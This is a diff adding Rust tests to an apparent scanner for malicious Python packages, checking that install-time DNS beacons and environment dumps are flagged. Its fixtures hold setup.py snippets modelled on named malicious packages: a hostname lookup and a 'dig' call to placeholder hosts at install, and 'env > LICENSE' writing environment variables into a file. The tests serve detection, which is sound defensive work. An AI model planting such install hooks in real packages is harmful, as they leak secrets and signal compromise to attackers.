@@ -862,3 +862,32 @@ fn a_download_and_a_build_step_in_two_setup_helpers_are_not_a_dropper() {
     let r = sdist(&[("setup.py", dropper)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn dns_beacons_through_a_variable_or_a_dns_tool_at_install_are_malicious() {
+    // f5rest 99.0.0: `hostname = "..."`, `socket.gethostbyname(hostname)`.
+    let var = "import socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        hostname = f\"probe.placeholder.invalid\"\n        socket.gethostbyname(hostname)\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n";
+    let r = sdist(&[("setup.py", var)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // pygrata 2.1.2: `dig @1.1.1.1 install.api.<name>.com`.
+    let dig = "import subprocess\nfrom setuptools import setup\nsubprocess.getoutput('dig @127.0.0.1 install.placeholder.invalid')\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", dig)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Resolving the local host, or a name the caller passes, is not.
+    let local = "import socket\nfrom setuptools import setup\nhost = 'localhost'\nsocket.gethostbyname(host)\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", local)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+#[test]
+fn the_environment_dumped_with_env_at_install_is_malicious() {
+    // builderknower2 0.1.13: `os.system("env > LICENSE")`.
+    let setup =
+        "import os\nfrom setuptools import setup\nos.system('env > LICENSE')\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // `env NAME=value cmd` runs a command with a variable set.
+    let runner = "import os\nfrom setuptools import setup\nos.system('env CC=gcc true')\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", runner)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
